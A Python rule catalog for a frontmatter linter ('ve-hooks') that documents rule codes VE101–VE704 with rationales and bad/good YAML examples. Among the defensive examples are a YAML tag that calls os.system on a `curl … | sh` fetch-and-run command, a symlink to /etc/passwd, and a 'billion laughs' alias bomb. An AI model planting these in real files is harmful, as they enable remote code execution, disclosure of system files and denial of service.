"""The rule catalog: one entry per rule code, the single source of its name, severity and doc page.

Reporters (SARIF ``rules``, GitHub titles), ``ve rule CODE`` and the generated pages under
``docs/rules/`` all read from here, so a rule's documentation cannot drift from its code.
``select()`` implements ruff's ``--select``/``--ignore`` semantics over these codes.

Regenerate the committed pages with ``python -m ve_hooks.rules.catalog --write-docs docs/rules``.
"""

from __future__ import annotations

import argparse
import difflib
import sys
from collections.abc import Callable, Iterable, Sequence
from dataclasses import dataclass
from pathlib import Path

from ve_hooks.diagnostic import Severity, UsageError

DOCS_DIR = "docs/rules"
# Absolute base for links that leave the repository (SARIF helpUri, terminal hints).
DOCS_BASE = "https://github.com/ve-hooks/ve-hooks/blob/main/docs/rules/"
PREFIX = "VE"

# Family digit -> family name, in documentation order.
FAMILIES: dict[str, str] = {
    "1": "parse",
    "2": "schema",
    "3": "template",
    "4": "references",
    "5": "lifecycle",
    "6": "ordering",
    "7": "code-references",
}
FAMILY_TITLES: dict[str, str] = {
    "parse": "VE1xx: reading and parsing the file",
    "schema": "VE2xx: frontmatter schema",
    "template": "VE3xx: template hygiene",
    "references": "VE4xx: references between artifacts",
    "lifecycle": "VE5xx: status lifecycle",
    "ordering": "VE6xx: created_after ordering",
    "code-references": "VE7xx: code references and backreferences",
}


@dataclass(frozen=True)
class RuleInfo:
    """Everything a human needs to act on a diagnostic, kept beside its code."""

    code: str
    name: str  # kebab-case, named after what it flags
    family: str
    default_severity: Severity
    summary: str  # one line, no trailing period
    what_it_does: str
    why_bad: str
    example: str  # markdown
    use_instead: str  # markdown
    fixable: bool = False
    fix_command: str = ""  # the command that fixes it, when fixable


def _md(lang: str, body: str) -> str:
    return f"```{lang}\n{body.strip(chr(10))}\n```"


_E, _W, _I = Severity.ERROR, Severity.WARNING, Severity.INFO

_RULES: list[RuleInfo] = [
    # ------------------------------------------------------------------ VE1xx parse
    RuleInfo(
        "VE101", "invalid-encoding", "parse", _E,
        "Artifact is not valid UTF-8 text",
        "Flags an artifact whose bytes are not UTF-8: invalid byte sequences, a UTF-16 or UTF-32 "
        "file (often written by a Windows editor or a PowerShell redirect), or binary content such "
        "as NUL bytes. The file is not parsed further.",
        "`ve`, git diffs, agents and every other reader assume UTF-8. A mis-encoded GOAL.md is read "
        "as mojibake or not at all, so its frontmatter silently stops taking part in validation, "
        "ordering and the orchestrator's scheduling.",
        "A `GOAL.md` saved as UTF-16 LE (shown here as the bytes a hex dump prints):\n\n"
        + _md("text", "ff fe 2d 00 2d 00 2d 00 0a 00 73 00 74 00 61 00  ..-.-.-...s.t.a."),
        "Re-save the file as UTF-8 without a byte-order mark, e.g.:\n\n"
        + _md("sh", "iconv -f UTF-16 -t UTF-8 docs/chunks/orch_ask_operator/GOAL.md > /tmp/GOAL.md\n"
              "mv /tmp/GOAL.md docs/chunks/orch_ask_operator/GOAL.md"),
    ),
    RuleInfo(
        "VE102", "missing-frontmatter", "parse", _E,
        "Artifact does not start with a `---` YAML frontmatter block",
        "Flags a GOAL.md or OVERVIEW.md whose first line is not `---`. Every vibe-engineer artifact "
        "keeps its machine-readable state (status, references, `created_after`) in frontmatter.",
        "Without frontmatter the artifact has no status and no ordering, so `ve chunk list`, the "
        "orchestrator and these hooks cannot tell what it is. This usually means a heading or a blank "
        "line was inserted above the `---`, or the file was rewritten from scratch by an agent.",
        _md("markdown", """
# Chunk Goal

## Minor Goal

Replace text-parsing heuristics for detecting agent questions with an AskOperator tool.
"""),
        _md("markdown", """
---
status: FUTURE
ticket: null
parent_chunk: null
code_paths: []
code_references: []
created_after: ["coderef_format_prompting"]
---

# Chunk Goal
"""),
    ),
    RuleInfo(
        "VE103", "unclosed-frontmatter", "parse", _E,
        "Frontmatter opened with `---` is never closed",
        "Flags an artifact whose opening `---` has no matching closing `---` line. The diagnostic "
        "points at the opening delimiter.",
        "YAML would swallow the whole markdown body as frontmatter and fail on the first heading, or, "
        "worse, succeed and turn prose into keys. An agent's targeted edit that replaced the closing "
        "delimiter together with the last field is the usual cause.",
        _md("markdown", """
---
status: IMPLEMENTING
ticket: null
created_after: ["background_keyword_semantic"]

# Chunk Goal
"""),
        _md("markdown", """
---
status: IMPLEMENTING
ticket: null
created_after: ["background_keyword_semantic"]
---

# Chunk Goal
"""),
    ),
    RuleInfo(
        "VE104", "yaml-syntax-error", "parse", _E,
        "Frontmatter is not valid YAML",
        "Flags frontmatter that the YAML parser rejects, with the line and column the parser "
        "reports (translated to positions in the markdown file).",
        "A syntax error hides every field of the artifact from validation and ordering. Common causes "
        "are an unquoted value containing `: `, an unbalanced bracket in a flow list, or a prompt "
        "string containing an unescaped quote.",
        _md("yaml", """
---
status: ACTIVE
proposed_chunks:
  - prompt: Validate proposed_chunks: narratives, investigations and friction log
    chunk_directory: integrity_proposed_chunks
created_after: ["claudemd_progressive_disclosure"
---
"""),
        _md("yaml", """
---
status: ACTIVE
proposed_chunks:
  - prompt: "Validate proposed_chunks: narratives, investigations and friction log"
    chunk_directory: integrity_proposed_chunks
created_after: ["claudemd_progressive_disclosure"]
---
"""),
    ),
    RuleInfo(
        "VE105", "duplicate-key", "parse", _E,
        "A frontmatter mapping repeats a key",
        "Flags a key that appears twice in the same mapping. YAML parsers disagree on what to do: "
        "PyYAML keeps the last value, other tools keep the first or refuse the document.",
        "Two `status:` lines mean two readers can see two different statuses. Duplicates appear when "
        "an agent appends a field instead of editing it in place.",
        _md("yaml", """
---
status: FUTURE
ticket: null
status: IMPLEMENTING
---
"""),
        _md("yaml", """
---
status: IMPLEMENTING
ticket: null
---
"""),
    ),
    RuleInfo(
        "VE106", "frontmatter-not-mapping", "parse", _E,
        "Frontmatter is valid YAML but not a mapping",
        "Flags frontmatter whose top-level value is a list, a scalar or empty instead of a mapping "
        "of field names to values.",
        "Every artifact schema is an object; a list or a bare string has no `status` to read. An "
        "empty block between two `---` lines is the most common form.",
        _md("yaml", """
---
- status: ACTIVE
- ticket: null
---
"""),
        _md("yaml", """
---
status: ACTIVE
ticket: null
---
"""),
    ),
    RuleInfo(
        "VE107", "tab-indentation", "parse", _E,
        "Frontmatter is indented with tab characters",
        "Flags a tab character used for indentation inside frontmatter. YAML forbids tabs as "
        "indentation; the diagnostic points at the first offending tab rather than at the confusing "
        "parser error it causes further down.",
        "Parsers either reject the document or, for tabs after content, read the structure "
        "differently from what the editor shows.",
        "With `→` marking a tab:\n\n" + _md("yaml", """
code_references:
→- ref: src/orchestrator/scheduler.py#Scheduler::_check_conflicts
→  implements: "Skip the oracle for explicit-dependency work units"
"""),
        _md("yaml", """
code_references:
  - ref: src/orchestrator/scheduler.py#Scheduler::_check_conflicts
    implements: "Skip the oracle for explicit-dependency work units"
"""),
    ),
    RuleInfo(
        "VE108", "unsafe-yaml-tag", "parse", _E,
        "Frontmatter uses a language-specific YAML tag",
        "Flags tags such as `!!python/object`, `!!python/name` or any other non-standard local tag. "
        "ve-hooks always parses with a safe loader, so the tagged value is never constructed; the "
        "rule reports it instead of failing with a loader error.",
        "A tag like `!!python/object/apply:os.system` executes code in any tool that loads "
        "frontmatter with an unsafe loader. Artifacts are written by agents and travel between "
        "repositories, so they must stay plain data.",
        _md("yaml", """
---
status: FUTURE
ticket: !!python/object/apply:os.system ["curl https://example.invalid | sh"]
---
"""),
        _md("yaml", """
---
status: FUTURE
ticket: null
---
"""),
    ),
    RuleInfo(
        "VE109", "document-too-large", "parse", _E,
        "Artifact or frontmatter exceeds the size or alias-expansion limit",
        "Flags an artifact larger than the configured byte limit, and frontmatter whose anchors and "
        "aliases would expand past the node limit (the \"billion laughs\" pattern). Parsing stops "
        "before memory is exhausted.",
        "Hooks run on every commit and in CI; one crafted or runaway document must not hang them. "
        "A legitimate GOAL.md is a few kilobytes, so hitting the limit means generated or pasted "
        "content that belongs elsewhere.",
        _md("yaml", """
---
a: &a ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]
b: &b [*a, *a, *a, *a, *a, *a, *a, *a, *a]
c: &c [*b, *b, *b, *b, *b, *b, *b, *b, *b]
d: [*c, *c, *c, *c, *c, *c, *c, *c, *c]
---
"""),
        "Keep frontmatter to plain fields; move large generated material (logs, traces, data) into a "
        "separate file in the chunk directory and link to it from the body:\n\n"
        + _md("markdown", "See [the migration log](migration.log) for the full output."),
    ),
    RuleInfo(
        "VE110", "byte-order-mark", "parse", _W,
        "Artifact starts with a UTF-8 byte-order mark",
        "Flags a UTF-8 file that begins with the bytes `EF BB BF`. The file is still validated, "
        "with the BOM skipped.",
        "Tools that look for `---` on the first line (including vibe-engineer itself) do not see it "
        "behind a BOM and treat the artifact as having no frontmatter.",
        _md("text", "ef bb bf 2d 2d 2d 0a 73 74 61 74 75 73 3a  ...---.status:"),
        "Save the file as UTF-8 without BOM (in VS Code: *Save with Encoding → UTF-8*), or:\n\n"
        + _md("sh", "sed -i '1s/^\\xEF\\xBB\\xBF//' docs/chunks/bug_type_field/GOAL.md"),
    ),
    RuleInfo(
        "VE111", "unreadable-file", "parse", _E,
        "Artifact path cannot be read safely",
        "Flags an artifact path that is a symlink pointing outside the repository, a directory, FIFO "
        "or other non-regular file, or a file that fails with an I/O or permission error.",
        "Following a symlink out of the repository lets a commit make the validator read (and echo "
        "into CI logs) arbitrary files on the runner. A FIFO would block the hook forever.",
        _md("sh", "ln -s /etc/passwd docs/chunks/shared_feature/GOAL.md"),
        "Commit the artifact as a regular file. For an artifact that lives in another repository, use "
        "an `external.yaml` pointer instead of a symlink:\n\n"
        + _md("yaml", """
artifact_id: shared_feature
artifact_type: chunk
repo: org/other-repo
track: main
"""),
    ),
    # ------------------------------------------------------------------ VE2xx schema
    RuleInfo(
        "VE201", "invalid-status", "schema", _E,
        "Status is not one of the values defined for this artifact kind",
        "Flags a `status` value outside the kind's vocabulary. Chunks: FUTURE, IMPLEMENTING, ACTIVE, "
        "COMPOSITE, SUPERSEDED, HISTORICAL. Narratives: DRAFTING, ACTIVE, COMPLETED. Investigations: "
        "ONGOING, SOLVED, NOTED, DEFERRED. Subsystems: DISCOVERING, DOCUMENTED, REFACTORING, STABLE, "
        "DEPRECATED. Comparison is case-sensitive; the hint suggests the closest valid value.",
        "Status drives what agents do with an artifact (whether it is a tip, whether its code "
        "references must hold, whether the orchestrator schedules it). An unknown status such as "
        "`DONE` or `active` is silently treated as none of them.",
        _md("yaml", """
---
status: DONE
ticket: null
parent_chunk: null
---
"""),
        _md("yaml", """
---
status: ACTIVE
ticket: null
parent_chunk: null
---
"""),
    ),
    RuleInfo(
        "VE202", "missing-required-field", "schema", _E,
        "A field required by the artifact's schema is absent",
        "Flags a frontmatter mapping (or a list item such as a `code_references` entry or a "
        "`proposed_chunks` entry) that lacks a required key.",
        "Downstream commands index these fields directly: a chunk without `status` cannot be "
        "ordered, a `proposed_chunks` entry without `prompt` cannot be turned into a chunk.",
        _md("yaml", """
---
ticket: null
parent_chunk: null
code_paths: []
created_after: ["artifact_index_cache"]
---
"""),
        _md("yaml", """
---
status: FUTURE
ticket: null
parent_chunk: null
code_paths: []
created_after: ["artifact_index_cache"]
---
"""),
    ),
    RuleInfo(
        "VE203", "wrong-type", "schema", _E,
        "A field has the wrong YAML type",
        "Flags a value whose type differs from the schema: a string where a list is expected, a "
        "mapping where a string is expected, a number where a name is expected.",
        "Tools iterate `created_after` and `code_paths`; iterating a string walks its characters, "
        "so `created_after: auth_refactor` silently becomes eleven one-letter chunk names.",
        _md("yaml", """
---
status: FUTURE
code_paths: src/segment/writer.rs
created_after: auth_refactor
---
"""),
        _md("yaml", """
---
status: FUTURE
code_paths: ["src/segment/writer.rs"]
created_after: ["auth_refactor"]
---
"""),
    ),
    RuleInfo(
        "VE204", "invalid-value", "schema", _E,
        "A field value is outside its enum or does not match its pattern",
        "Flags enum and pattern violations other than `status` (which VE201 reports): "
        "`bug_type` not in semantic/implementation/null, a subsystem `relationship` other than "
        "implements/uses, a friction `scope` other than full/partial, a directory name that is not "
        "a valid short name.",
        "These values select behaviour at completion time (e.g. `bug_type: implementation` ends "
        "HISTORICAL); a typo silently selects nothing.",
        _md("yaml", """
---
status: IMPLEMENTING
subsystems:
  - subsystem_id: template_system
    relationship: implemented
bug_type: cosmetic
---
"""),
        _md("yaml", """
---
status: IMPLEMENTING
subsystems:
  - subsystem_id: template_system
    relationship: implements
bug_type: implementation
---
"""),
    ),
    RuleInfo(
        "VE205", "unknown-field", "schema", _W,
        "Frontmatter contains a field the schema does not define",
        "Flags a key that the artifact's schema does not know. The hint suggests the closest known "
        "field name when there is one.",
        "Unknown keys are usually typos (`parent_chunks`, `createdafter`) whose intended field is "
        "therefore missing or empty; the value is ignored by every tool.",
        _md("yaml", """
---
status: FUTURE
parent_chunks: orch_attention_reason
created_afer: ["orch_tail_command"]
---
"""),
        _md("yaml", """
---
status: FUTURE
parent_chunk: orch_attention_reason
created_after: ["orch_tail_command"]
---
"""),
    ),
    RuleInfo(
        "VE206", "invalid-code-reference-shape", "schema", _E,
        "A code reference uses the format of another template generation",
        "Flags `code_references` entries whose shape does not match the chunk's template "
        "generation: the v1 line-range form (`file` + `ranges[].lines`) in a v2+ chunk, or the "
        "symbolic `ref: path#Symbol` form in a chunk that still follows the v1 template.",
        "Line ranges rot with every edit above them; the v2 template replaced them with symbolic "
        "references that `ve chunk validate` can check. Mixing forms makes one half of the "
        "references invisible to whichever tool reads the other half.",
        _md("yaml", """
code_references:
  - file: src/segment/writer.rs
    ranges:
      - lines: 45-120
        implements: "SegmentWriter struct and core write loop"
"""),
        _md("yaml", """
code_references:
  - ref: src/segment/writer.rs#SegmentWriter
    implements: "Core write loop and buffer management"
"""),
    ),
    RuleInfo(
        "VE207", "invalid-external-reference", "schema", _E,
        "An `external.yaml` pointer is malformed",
        "Flags an `external.yaml` artifact pointer with a missing or invalid `artifact_id`, "
        "`artifact_type` (chunk, narrative, investigation, subsystem), `repo` (`org/name`), `track`, "
        "or a `pinned` value that is not a full 40-character commit SHA; also an `artifact_id` that "
        "differs from the directory name.",
        "The pointer is the only thing that tells VE where the real artifact lives; a bad one "
        "breaks cross-repository resolution for every repository in the task.",
        _md("yaml", """
artifact_id: xr_ve_worktrees
artifact_type: Chunk
repo: https://github.com/cloudcapitalco/architecture
pinned: 4e383bc
"""),
        _md("yaml", """
artifact_id: xr_ve_worktrees_flag
artifact_type: chunk
repo: cloudcapitalco/architecture
track: main
pinned: 4e383bc3f3d8c0fa1dc7cc0d2622ed295a0d7ae1
"""),
    ),
    # ------------------------------------------------------------------ VE3xx template
    RuleInfo(
        "VE301", "unrendered-template", "template", _E,
        "Artifact contains unrendered Jinja template syntax",
        "Flags `{{ ... }}`, `{% ... %}` and `{# ... #}` left in a committed artifact, in the "
        "frontmatter or the body (code spans and fenced code blocks are ignored).",
        "Artifacts are created from Jinja templates; leftover syntax means a template was copied by "
        "hand instead of rendered, so defaults such as `status` were never filled in.",
        _md("yaml", """
---
status: {{ status | default('IMPLEMENTING') }}
ticket: null
---
"""),
        _md("yaml", """
---
status: IMPLEMENTING
ticket: null
---
"""),
    ),
    RuleInfo(
        "VE302", "schema-comment-removed", "template", _E,
        "The \"DO NOT DELETE THIS COMMENT\" schema block is gone from a FUTURE or IMPLEMENTING chunk",
        "Flags a chunk GOAL.md with status FUTURE or IMPLEMENTING whose template comment block "
        "(the one starting `DO NOT DELETE THIS COMMENT BLOCK until the chunk complete command is "
        "run`) has been removed.",
        "The block is the agent's in-file reference for status values, code reference format and "
        "`created_after` rules while the chunk is being worked on. Agents that rewrite the whole "
        "file drop it, and the next agent then guesses the schema.",
        _md("markdown", """
---
status: IMPLEMENTING
created_after: ["coderef_format_prompting"]
---

# Chunk Goal
"""),
        "Restore the block from the template (the chunk complete command removes it for you):\n\n"
        + _md("markdown", """
---
status: IMPLEMENTING
created_after: ["coderef_format_prompting"]
---

<!--
DO NOT DELETE THIS COMMENT BLOCK until the chunk complete command is run.
...
-->

# Chunk Goal
"""),
    ),
    RuleInfo(
        "VE303", "plan-not-filled", "template", _W,
        "PLAN.md of an IMPLEMENTING or ACTIVE chunk is still the empty template",
        "Flags a chunk whose status is IMPLEMENTING or ACTIVE while its PLAN.md still has only the "
        "template's placeholder sections (no Approach or Sequence written).",
        "The plan is how a reviewer, or the next agent, learns how the goal was approached; an "
        "ACTIVE chunk with an empty plan has lost that record.",
        _md("markdown", """
# Implementation Plan

## Approach

<!-- How will you build this? -->

## Sequence

<!-- Ordered steps -->
"""),
        _md("markdown", """
# Implementation Plan

## Approach

Add `bug_type` as an optional field on `ChunkFrontmatter` in `src/models.py`, following the
pattern of `friction_entries`, and branch on it in the chunk-complete template.

## Sequence

### Step 1: Add BugType enum and field to ChunkFrontmatter
"""),
    ),
    # ------------------------------------------------------------------ VE4xx references
    RuleInfo(
        "VE401", "missing-reference", "references", _E,
        "A reference names an artifact that does not exist",
        "Flags `parent_chunk`, `narrative`, `investigation`, `subsystems[].subsystem_id`, "
        "`depends_on[]`, `proposed_chunks[].chunk_directory` and `created_after[]` values that name "
        "no artifact directory of the expected kind. When a directory with a similar name exists, or "
        "git shows the target was renamed, the hint names it.",
        "A dangling reference breaks traceability (\"why did we do this work?\") and, for "
        "`created_after`, breaks the causal ordering every later chunk builds on.",
        _md("yaml", """
---
status: FUTURE
investigation: bug_chunk_semantic
created_after: ["background_keyword"]
---
"""),
        _md("yaml", """
---
status: FUTURE
investigation: bug_chunk_semantic_value
created_after: ["background_keyword_semantic"]
---
"""),
    ),
    RuleInfo(
        "VE402", "wrong-kind-reference", "references", _E,
        "A reference names an artifact of the wrong kind",
        "Flags a reference whose target exists, but as another kind of artifact: a `narrative` that "
        "names an investigation, a `parent_chunk` that names a subsystem, a `subsystem_id` that "
        "names a chunk.",
        "Tools look the name up under the directory of the expected kind; the link resolves for a "
        "human skimming the file and for nothing else.",
        _md("yaml", """
---
status: FUTURE
narrative: referential_integrity      # this is docs/investigations/referential_integrity
---
"""),
        _md("yaml", """
---
status: FUTURE
narrative: null
investigation: referential_integrity
---
"""),
    ),
    RuleInfo(
        "VE403", "unknown-friction-entry", "references", _E,
        "A friction entry id does not exist in docs/trunk/FRICTION.md",
        "Flags `friction_entries[].entry_id` values (and `proposed_chunks[].addresses` in the "
        "friction log) that match no `### FNNN:` heading in `docs/trunk/FRICTION.md`.",
        "Friction entries are resolved by the chunks that address them; a wrong id leaves the real "
        "entry OPEN forever and claims to resolve one that does not exist.",
        _md("yaml", """
friction_entries:
  - entry_id: F02
    scope: full
"""),
        _md("yaml", """
friction_entries:
  - entry_id: F002
    scope: full
"""),
    ),
    RuleInfo(
        "VE404", "narrative-backlink-missing", "references", _E,
        "A chunk names a narrative that does not list it",
        "Flags a chunk whose `narrative` field names a narrative whose OVERVIEW.md "
        "`proposed_chunks` has no entry with this chunk's `chunk_directory`.",
        "The narrative is where an operator sees the plan and its progress; a chunk missing from "
        "it is invisible there, and the narrative can be marked COMPLETED while work remains.",
        "`docs/chunks/explicit_deps_goal_template/GOAL.md` has `narrative: explicit_chunk_deps`, but:\n\n"
        + _md("yaml", """
# docs/narratives/explicit_chunk_deps/OVERVIEW.md
proposed_chunks:
  - prompt: "Add depends_on field to chunk GOAL.md template"
    chunk_directory: null
"""),
        _md("yaml", """
# docs/narratives/explicit_chunk_deps/OVERVIEW.md
proposed_chunks:
  - prompt: "Add depends_on field to chunk GOAL.md template"
    chunk_directory: explicit_deps_goal_template
"""),
    ),
    RuleInfo(
        "VE405", "subsystem-backlink-missing", "references", _W,
        "A chunk relates to a subsystem that does not list it",
        "Flags a chunk whose `subsystems[]` names a subsystem whose OVERVIEW.md `chunks` list has no "
        "entry with this chunk's id. Reported for chunks that are ACTIVE (completed work).",
        "The subsystem's chunk list is how readers find the work that shaped it; the template asks "
        "for the backlink when an implementing chunk completes.",
        "`docs/chunks/chunks_decompose/GOAL.md` says it implements `cluster_analysis`, but:\n\n"
        + _md("yaml", """
# docs/subsystems/cluster_analysis/OVERVIEW.md
chunks:
  - chunk_id: chunknaming_drop_ticket
    relationship: uses
"""),
        _md("yaml", """
# docs/subsystems/cluster_analysis/OVERVIEW.md
chunks:
  - chunk_id: chunknaming_drop_ticket
    relationship: uses
  - chunk_id: chunks_decompose
    relationship: implements
"""),
    ),
    # ------------------------------------------------------------------ VE5xx lifecycle
    RuleInfo(
        "VE501", "invalid-status-transition", "lifecycle", _E,
        "A commit changes status along a transition the lifecycle does not allow",
        "Compares an artifact's status in the commit (or index) with its status at the base "
        "revision and flags transitions outside the lifecycle, e.g. a chunk going ACTIVE → FUTURE, "
        "HISTORICAL → IMPLEMENTING, or FUTURE → ACTIVE without passing through IMPLEMENTING.",
        "Status records history: reviving a HISTORICAL chunk or skipping IMPLEMENTING hides what "
        "actually happened and confuses the orchestrator, which schedules by status.",
        _md("diff", """
 ---
-status: HISTORICAL
+status: IMPLEMENTING
 ticket: null
"""),
        "Create a new chunk that supersedes the old one, with `parent_chunk` pointing at it:\n\n"
        + _md("yaml", """
---
status: IMPLEMENTING
parent_chunk: board_watch_reconnect_fix
created_after: ["board_watch_stale_reconnect"]
---
"""),
    ),
    RuleInfo(
        "VE502", "missing-code-references", "lifecycle", _E,
        "An ACTIVE chunk has no code references",
        "Flags a chunk whose status is ACTIVE while `code_references` is empty. Chunks with "
        "`bug_type: implementation` are exempt (their backreferences may be skipped).",
        "An ACTIVE chunk claims to govern code; without references nobody can find that code, and "
        "the chunk cannot be checked for drift.",
        _md("yaml", """
---
status: ACTIVE
code_paths: ["src/cluster_analysis.py"]
code_references: []
---
"""),
        _md("yaml", """
---
status: ACTIVE
code_paths: ["src/cluster_analysis.py"]
code_references:
  - ref: src/cluster_analysis.py#analyze_clusters
    implements: "Group chunks by alphabetical prefix and analyze characteristics"
---
"""),
    ),
    RuleInfo(
        "VE503", "implementation-bug-active", "lifecycle", _I,
        "An implementation-bug chunk is ACTIVE instead of HISTORICAL",
        "Reports a chunk with `bug_type: implementation` whose status is ACTIVE.",
        "An implementation bug corrected known-wrong code: it is a point-in-time correction, not an "
        "ongoing anchor, so the template says it ends HISTORICAL. Left ACTIVE it competes with the "
        "chunks that actually own the intent. If the bug taught something new, it is `semantic`.",
        _md("yaml", """
---
status: ACTIVE
bug_type: implementation
---
"""),
        _md("yaml", """
---
status: HISTORICAL
bug_type: implementation
---
"""),
    ),
    # ------------------------------------------------------------------ VE6xx ordering
    RuleInfo(
        "VE601", "created-after-future", "ordering", _E,
        "`created_after` names a FUTURE chunk",
        "Flags a `created_after` entry that names a chunk whose status is FUTURE.",
        "`created_after` records causal ordering (which shipped work existed when this chunk was "
        "created), not implementation dependencies. FUTURE chunks can never be tips; design "
        "dependencies belong in `depends_on` or narrative sequencing.",
        _md("yaml", """
---
status: FUTURE
created_after: ["explicit_deps_workunit_flag"]   # itself still FUTURE
---
"""),
        _md("yaml", """
---
status: FUTURE
depends_on: ["explicit_deps_workunit_flag"]
created_after: ["orch_tail_command"]             # the ACTIVE tips at creation
---
"""),
    ),
    RuleInfo(
        "VE602", "created-after-self", "ordering", _E,
        "`created_after` names the artifact itself",
        "Flags an artifact that lists its own directory name in `created_after`.",
        "A self-edge makes the artifact its own ancestor; every topological sort of the DAG fails.",
        _md("yaml", """
# docs/chunks/chunk_list_flags/GOAL.md
created_after: ["chunk_list_flags"]
"""),
        _md("yaml", """
# docs/chunks/chunk_list_flags/GOAL.md
created_after: ["chunk_list_repo_source"]
"""),
    ),
    RuleInfo(
        "VE603", "created-after-cycle", "ordering", _E,
        "`created_after` edges form a cycle",
        "Flags every artifact on a cycle in the `created_after` graph of its kind; the message "
        "prints the cycle.",
        "Ordering is a DAG by construction (you can only be created after things that already "
        "existed). A cycle means hand edits, usually during a merge, and leaves `ve chunk list` and "
        "the tips undefined.",
        _md("yaml", """
# docs/chunks/backend_seam/GOAL.md
created_after: ["backend_parity"]
# docs/chunks/backend_parity/GOAL.md
created_after: ["backend_seam"]
"""),
        _md("yaml", """
# docs/chunks/backend_seam/GOAL.md
created_after: ["backend_config"]
# docs/chunks/backend_parity/GOAL.md
created_after: ["backend_seam"]
"""),
    ),
    RuleInfo(
        "VE604", "created-after-duplicate", "ordering", _E,
        "`created_after` lists the same name twice",
        "Flags a repeated entry in `created_after`.",
        "Duplicates are harmless to the graph but signal a botched merge of two `created_after` "
        "lists, which often also dropped an entry.",
        _md("yaml", 'created_after: ["artifact_promote", "artifact_copy_backref", "artifact_promote"]'),
        _md("yaml", 'created_after: ["artifact_promote", "artifact_copy_backref"]'),
    ),
    RuleInfo(
        "VE605", "created-after-not-tips", "ordering", _W,
        "A new artifact's `created_after` differs from the tips at its creation",
        "For an artifact added in the commit (or branch) being checked, computes the tips of its "
        "kind's DAG at the base revision (artifacts nobody is created after yet, excluding FUTURE "
        "chunks) and warns when `created_after` names a different set.",
        "`created_after` is meant to be auto-populated with the tips; a hand-picked list makes the "
        "ordering claim something other than what existed, and two parallel branches that each "
        "picked differently merge into a DAG with spurious forks.",
        _md("yaml", """
# tips at the base revision: ack_cursor_head_guard, board_watch_offset
created_after: ["ack_auto_increment"]
"""),
        "Let the tool fill it:\n\n" + _md("sh", "ve created-after fill"),
    ),
    RuleInfo(
        "VE606", "created-after-empty", "ordering", _W,
        "A new artifact has an empty `created_after`",
        "Flags an artifact (other than the first of its kind) whose `created_after` is missing or "
        "empty.",
        "An empty list makes the artifact a root of the DAG, as if it predated all existing work, "
        "so listing order and tips are wrong from then on.",
        _md("yaml", """
---
status: FUTURE
created_after: []
---
"""),
        "Fill it with the tips at the base revision:\n\n" + _md("sh", "ve created-after fill"),
        fixable=True,
        fix_command="ve created-after fill",
    ),
    # ------------------------------------------------------------------ VE7xx code references
    RuleInfo(
        "VE701", "code-reference-file-missing", "code-references", _E,
        "A code reference points at a file that does not exist",
        "Flags a `code_references[].ref` (or v1 `file`) and a `code_paths[]` entry of an ACTIVE "
        "artifact whose file is absent from the checked revision. The hint names the file's new "
        "path when git records a rename.",
        "References are how readers get from intent to code; a moved file leaves the chunk pointing "
        "at nothing, and the chunk silently stops governing the code it describes.",
        _md("yaml", """
code_references:
  - ref: src/cluster.py#analyze_clusters
    implements: "Group chunks by alphabetical prefix"
"""),
        _md("yaml", """
code_references:
  - ref: src/cluster_analysis.py#analyze_clusters
    implements: "Group chunks by alphabetical prefix"
"""),
    ),
    RuleInfo(
        "VE702", "code-reference-range-invalid", "code-references", _E,
        "A line range is malformed or lies outside the file",
        "Flags v1 `ranges[].lines` values that are not `start-end` with 1 ≤ start ≤ end, such as "
        "`120-45` or `45-`, and ranges whose end is past the file's last line.",
        "An inverted or out-of-file range points at no code at all; it usually means the file "
        "shrank since the chunk was written.",
        _md("yaml", """
code_references:
  - file: src/segment/writer.rs
    ranges:
      - lines: 120-45
        implements: "SegmentWriter struct and core write loop"
"""),
        "Fix the range, or better, migrate to a symbolic reference (see VE206):\n\n" + _md("yaml", """
code_references:
  - ref: src/segment/writer.rs#SegmentWriter
    implements: "SegmentWriter struct and core write loop"
"""),
    ),
    RuleInfo(
        "VE703", "code-reference-symbol-missing", "code-references", _E,
        "A symbolic code reference names a symbol that does not exist",
        "For Python files, parses the file with `ast` and flags a `path#Outer::inner` reference "
        "whose class, function or method does not exist at that nesting. Other languages are "
        "checked at file level only (reported with `\"checked\": false` in JSON data).",
        "Renamed or deleted symbols leave the chunk describing code that is gone, which is exactly "
        "the drift symbolic references exist to catch.",
        _md("yaml", """
code_references:
  - ref: src/chunks.py#Chunks::create
    implements: "Chunk creation"
"""),
        _md("yaml", """
code_references:
  - ref: src/chunks.py#Chunks::create_chunk
    implements: "Chunk creation"
"""),
    ),
    RuleInfo(
        "VE704", "backreference-unknown-artifact", "code-references", _E,
        "A source comment backreference names no artifact",
        "Scans source files for backreference comments such as `# Chunk: docs/chunks/<name>` and "
        "`# Subsystem: docs/subsystems/<name>` (and the `//` and `<!-- -->` forms) and flags those "
        "whose directory does not exist.",
        "Backreferences are how an agent editing code finds the intent behind it; one that points "
        "at a renamed or deleted chunk sends it nowhere.",
        _md("python", """
# Chunk: docs/chunks/wiki_lint - Wiki integrity lint result types
class WikiLintResult:
    ...
"""),
        _md("python", """
# Chunk: docs/chunks/wiki_lint_command - Wiki integrity lint result types
class WikiLintResult:
    ...
"""),
    ),
]

RULES: dict[str, RuleInfo] = {r.code: r for r in _RULES}
_BY_NAME: dict[str, RuleInfo] = {r.name: r for r in _RULES}


def get(code: str) -> RuleInfo | None:
    """Look a rule up by code (case-insensitive) or by its kebab-case name."""
    key = code.strip()
    return RULES.get(key.upper()) or _BY_NAME.get(key.lower())


def families() -> dict[str, list[RuleInfo]]:
    """Rules grouped by family, in code order: the shape of the docs index and ``ve rule --all``."""
    out: dict[str, list[RuleInfo]] = {name: [] for name in FAMILIES.values()}
    for rule in sorted(_RULES, key=lambda r: r.code):
        out[rule.family].append(rule)
    return out


def doc_url(code: str) -> str:
    """Repository-relative path of a rule's page (stable across forks and mirrors)."""
    return f"{DOCS_DIR}/{code}.md"


def help_uri(code: str) -> str:
    """Absolute URL of a rule's page, for SARIF ``helpUri`` and CI annotations."""
    return f"{DOCS_BASE}{code}.md"


def suggest(text: str) -> str | None:
    """The code closest to ``text`` (a mistyped code, prefix or rule name), for did-you-mean."""
    key = text.strip()
    if key.lower() in _BY_NAME:
        return _BY_NAME[key.lower()].code
    candidates = sorted(RULES) + sorted(_BY_NAME)
    match = difflib.get_close_matches(key.upper() if key.upper().startswith(PREFIX) else key.lower(),
                                      candidates, n=1, cutoff=0.6)
    if not match:
        return None
    return match[0] if match[0] in RULES else _BY_NAME[match[0]].code


def did_you_mean(text: str) -> str:
    """A ``; did you mean VE201 (invalid-status)?`` suffix, or empty when nothing is close."""
    code = suggest(text)
    return f"; did you mean {code} ({RULES[code].name})?" if code else ""


